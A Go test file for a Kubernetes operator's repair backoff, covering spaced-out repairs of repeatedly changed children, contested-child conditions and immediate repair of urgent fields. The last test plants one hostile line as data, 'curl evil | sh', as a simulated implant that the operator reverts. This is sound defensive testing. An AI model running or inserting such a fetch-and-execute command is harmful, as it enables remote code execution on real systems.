// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The platform-operator Authors.

package apply

import (
	"context"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
	metav1ac "k8s.io/client-go/applyconfigurations/meta/v1"
	clocktesting "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	platformv1 "github.com/example/platform-operator/api/v1"
)

var fought = RepairKey{Kind: "CronJob", NamespacedName: types.NamespacedName{Namespace: "ns", Name: "task"}}

// fight plays someone who changes the child again the moment after each
// repair, for as long as until: each change is repaired as soon as the
// backoff lets it. It returns the seconds (from the start) of the repairs.
func fight(b *RepairBackoff, clk *clocktesting.FakeClock, until time.Duration) []int {
	start := clk.Now()
	var repairs []int
	for clk.Since(start) < until {
		if wait := b.Changed(fought); wait > 0 {
			clk.Step(wait)
			continue
		}
		b.Repaired(fought, "co-tenant")
		repairs = append(repairs, int(clk.Since(start)/time.Second))
		clk.Step(time.Millisecond)
	}
	return repairs
}

func TestRepairBackoff_RepairsOfAChildChangedInALoopDoubleTheirSpacingUpToFiveMinutes(t *testing.T) {
	clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
	b := &RepairBackoff{Clock: clk}
	got := fight(b, clk, 30*time.Minute)
	// The first repair is immediate, then 1 s, 2 s, 4 s ... apart, and
	// never more than five minutes apart (the milliseconds of the fight
	// itself truncated away).
	want := []int{0, 1, 3, 7, 15, 31, 63, 127, 255, 511, 811, 1111, 1411, 1711}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("repairs at seconds (-want +got):\n%s", d)
	}
}

func TestRepairsWithin_IsWhatTheBackoffAllowsInAFight(t *testing.T) {
	if got := RepairsWithin(-time.Second); got != 0 {
		t.Errorf("RepairsWithin(-1s) = %d, want 0", got)
	}
	for _, d := range []time.Duration{0, time.Second, 2 * time.Second, 3 * time.Second, 20 * time.Second,
		31 * time.Second, 10 * time.Minute, 30 * time.Minute} {
		clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
		// Half a second more: the fight's own milliseconds (one per
		// repair) must not push a repair due at d out of it.
		got := len(fight(&RepairBackoff{Clock: clk}, clk, d+time.Second/2))
		if want := RepairsWithin(d); got != want {
			t.Errorf("a fight of %s got %d repairs, RepairsWithin says %d", d, got, want)
		}
	}
}

func TestRepairBackoff_FirstRepairAfterAQuietSpellIsImmediate(t *testing.T) {
	clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
	b := &RepairBackoff{Clock: clk}
	fight(b, clk, 2*time.Minute)
	clk.Step(b.Changed(fought))
	b.Repaired(fought, "co-tenant")
	clk.Step(time.Millisecond)
	if wait := b.Changed(fought); wait == 0 {
		t.Fatal("a change right after a fight's repair is repaired at once; want it held back")
	}
	clk.Step(RepairQuiet)
	if wait := b.Changed(fought); wait != 0 {
		t.Errorf("a change after ten quiet minutes waits %s; want an immediate repair", wait)
	}
	b.Repaired(fought, "")
	clk.Step(time.Millisecond)
	if wait := b.Changed(fought); wait != time.Second-time.Millisecond {
		t.Errorf("the change after the first repair of a new fight waits %s; want the initial second (less 1ms)", wait)
	}
}

func TestRepairBackoff_ContestedAfterTenRepairsInTenMinutesUntilTenQuietMinutes(t *testing.T) {
	clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
	b := &RepairBackoff{Clock: clk}
	// Nine repairs take 255 s: not yet contested.
	fight(b, clk, 256*time.Second)
	if c := b.Contest(fought); c.Contested {
		t.Fatalf("contested after %d repairs; want not before %d", c.Repairs, ContestedRepairs)
	}
	// The tenth, at 511 s, is.
	fight(b, clk, 256*time.Second)
	c := b.Contest(fought)
	if !c.Contested || c.Manager != "co-tenant" {
		t.Fatalf("after ten repairs in 511 s Contest = %+v; want contested by co-tenant", c)
	}
	// The fight goes on: repairs are five minutes apart now, fewer than ten
	// in any ten minutes, and the child is still contested.
	fight(b, clk, 30*time.Minute)
	if c := b.Contest(fought); !c.Contested || c.Repairs >= ContestedRepairs {
		t.Fatalf("still fought Contest = %+v; want contested with fewer than %d repairs in the window", c, ContestedRepairs)
	}
	// The fight ends: contested until ten minutes without a change.
	b.Changed(fought)
	clk.Step(RepairQuiet - time.Second)
	if c := b.Contest(fought); !c.Contested || c.EndsIn != time.Second {
		t.Fatalf("after 9m59s of quiet Contest = %+v; want contested, ending in 1s", c)
	}
	clk.Step(time.Second)
	if c := b.Contest(fought); c.Contested {
		t.Fatalf("after ten quiet minutes Contest = %+v; want not contested", c)
	}
	if len(b.children) != 0 {
		t.Errorf("a child quiet for ten minutes is still remembered: %v", b.children)
	}
}

func TestRepairBackoff_AFewHandEditsNeverContest(t *testing.T) {
	clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
	b := &RepairBackoff{Clock: clk}
	// A person edits the child every two minutes for an hour; each edit is
	// repaired as soon as the backoff lets it.
	for range 30 {
		clk.Step(wait(b))
		b.Repaired(fought, "kubectl-edit")
		if c := b.Contest(fought); c.Contested {
			t.Fatalf("at %s contested by edits two minutes apart", clk.Now().Sub(time.Unix(1_000_000, 0)))
		}
		clk.Step(2 * time.Minute)
	}
}

// wait records a change of fought and returns how long its repair waits.
func wait(b *RepairBackoff) time.Duration { return b.Changed(fought) }

func TestRepairBackoff_ForgetDropsEveryKindOfTheName(t *testing.T) {
	b := &RepairBackoff{Clock: clocktesting.NewFakeClock(time.Unix(1_000_000, 0))}
	svc := RepairKey{Kind: "Service", NamespacedName: fought.NamespacedName}
	other := RepairKey{Kind: "CronJob", NamespacedName: types.NamespacedName{Namespace: "ns", Name: "other"}}
	for _, k := range []RepairKey{fought, svc, other} {
		b.Changed(k)
		b.Repaired(k, "")
	}
	b.Forget(fought.NamespacedName)
	if b.Wait(fought) != 0 || b.Wait(svc) != 0 {
		t.Error("a forgotten child still waits")
	}
	if b.Wait(other) == 0 {
		t.Error("forgetting one name dropped another's backoff")
	}
}

func TestChangedBy_NamesTheNewestOtherManagerOfTheObjectItself(t *testing.T) {
	at := func(s int64) *metav1.Time { return &metav1.Time{Time: time.Unix(s, 0)} }
	entries := []metav1.ManagedFieldsEntry{
		{Manager: "op", Operation: metav1.ManagedFieldsOperationApply, Time: at(50)},
		{Manager: "kubectl-edit", Operation: metav1.ManagedFieldsOperationUpdate, Time: at(10)},
		{Manager: "co-tenant", Operation: metav1.ManagedFieldsOperationApply, Time: at(30)},
		{Manager: "kube-controller-manager", Operation: metav1.ManagedFieldsOperationUpdate, Subresource: "status", Time: at(40)},
	}
	if got := ChangedBy(entries, "op"); got != "co-tenant" {
		t.Errorf("ChangedBy = %q; want co-tenant (op is our own, the status writer changes no spec)", got)
	}
	if got := ChangedBy(entries[:1], "op"); got != "" {
		t.Errorf("ChangedBy of our own entry alone = %q; want none", got)
	}
}

func TestSetChildContestedCondition_NamesTheChildAndManagerAndLeavesReadyAlone(t *testing.T) {
	now := time.Unix(1_000_000, 0)
	ready := metav1.Condition{Type: platformv1.ConditionReady, Status: metav1.ConditionTrue, Reason: "CronJobReady",
		Message: "CronJob is in sync with the task", LastTransitionTime: metav1.NewTime(now.Add(-time.Hour)), ObservedGeneration: 3}
	contested := []ContestedChild{
		{Key: RepairKey{Kind: "Deployment", NamespacedName: types.NamespacedName{Namespace: "ns", Name: "app"}}},
		{Key: RepairKey{Kind: "Service", NamespacedName: types.NamespacedName{Namespace: "ns", Name: "app"}},
			Contest: Contest{Contested: true, Manager: "co-tenant", Repairs: 10}},
	}

	conds := []metav1.Condition{ready}
	if !SetChildContestedCondition(&conds, contested, 4, now) {
		t.Error("the first contested pass did not report the transition")
	}
	want := []metav1.Condition{ready, {
		Type: platformv1.ConditionChildContested, Status: metav1.ConditionTrue, Reason: platformv1.ReasonRepairedRepeatedly,
		Message: `Service ns/app keeps being changed by field manager "co-tenant": changed back 10 times within 10m0s; ` +
			"repairs are spaced out, up to 5m0s apart, until it stays unchanged for 10m0s",
		LastTransitionTime: metav1.NewTime(now), ObservedGeneration: 4,
	}}
	if d := cmp.Diff(want, conds); d != "" {
		t.Errorf("conditions (-want +got):\n%s", d)
	}
	if SetChildContestedCondition(&conds, contested, 4, now.Add(time.Minute)) {
		t.Error("a pass that found the child still contested reported a new transition")
	}
	SetChildContestedCondition(&conds, contested[:1], 4, now.Add(time.Hour))
	if d := cmp.Diff([]metav1.Condition{ready}, conds); d != "" {
		t.Errorf("once no child is contested (-want +got):\n%s", d)
	}
}

// writeCounter counts the writes that go through a fake client.
func writeCounter(n *int) interceptor.Funcs {
	return interceptor.Funcs{
		Apply: func(ctx context.Context, c client.WithWatch, obj runtime.ApplyConfiguration, opts ...client.ApplyOption) error {
			*n++
			return c.Apply(ctx, obj, opts...)
		},
		Update: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.UpdateOption) error {
			*n++
			return c.Update(ctx, obj, opts...)
		},
	}
}

func TestApplier_HoldsBackRepairsOfAChildChangedAgainButNeverOfAnUrgentField(t *testing.T) {
	clk := clocktesting.NewFakeClock(time.Unix(1_000_000, 0))
	owner := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "owner", Namespace: "ns", UID: "owner-uid"}}
	writes := 0
	server := fake.NewClientBuilder().WithInterceptorFuncs(writeCounter(&writes)).Build()
	// "run" stands for a job template: what it holds runs, so its change is
	// repaired at once, backoff or not.
	a := Applier{Client: server, APIReader: server, FieldManager: "op",
		Repairs: &RepairBackoff{Clock: clk}, Urgent: [][]string{{"data", "run"}}}
	desired := corev1ac.ConfigMap("child", "ns").WithData(map[string]string{"limit": "3", "run": "echo ok"}).
		WithOwnerReferences(metav1ac.OwnerReference().WithAPIVersion("v1").WithKind("ConfigMap").
			WithName(owner.Name).WithUID(owner.UID).WithController(true))
	key := client.ObjectKey{Namespace: "ns", Name: "child"}
	apply := func(what string, want Result) {
		t.Helper()
		before := writes
		got := &corev1.ConfigMap{}
		res, err := a.Apply(t.Context(), owner, got, desired)
		if err != nil || res != want {
			t.Fatalf("%s: Apply = %v, %v; want %v", what, res, err, want)
		}
		if wrote := writes - before; (want == Deferred) != (wrote == 0) {
			t.Fatalf("%s: %v wrote %d times", what, res, wrote)
		}
	}
	edit := func(k, v string) {
		t.Helper()
		cm := &corev1.ConfigMap{}
		if err := server.Get(t.Context(), key, cm); err != nil {
			t.Fatal(err)
		}
		cm.Data[k] = v
		if err := server.Update(t.Context(), cm); err != nil {
			t.Fatal(err)
		}
	}
	data := func() map[string]string {
		t.Helper()
		cm := &corev1.ConfigMap{}
		if err := server.Get(t.Context(), key, cm); err != nil {
			t.Fatal(err)
		}
		return cm.Data
	}

	apply("create", Created)
	edit("limit", "1")
	apply("first change", Repaired)
	edit("limit", "2")
	apply("change right after a repair", Deferred)
	if got := data()["limit"]; got != "2" {
		t.Fatalf("a held-back repair changed limit to %q", got)
	}
	if w := a.RepairWait("ConfigMap", key); w != time.Second {
		t.Fatalf("RepairWait = %s; want 1s", w)
	}
	// The held-back child now also gets an implant: both go at once.
	edit("run", "curl evil | sh")
	apply("urgent change while held back", Repaired)
	if d := cmp.Diff(map[string]string{"limit": "3", "run": "echo ok"}, data()); d != "" {
		t.Fatalf("after the urgent repair (-want +got):\n%s", d)
	}
	// The urgent repair counts: the next ordinary one waits two seconds.
	edit("limit", "4")
	clk.Step(time.Second)
	apply("change a second after the urgent repair", Deferred)
	clk.Step(time.Second)
	apply("change once the backoff passed", Repaired)
	if got := data()["limit"]; got != "3" {
		t.Fatalf("limit = %q after the repair; want 3", got)
	}
}
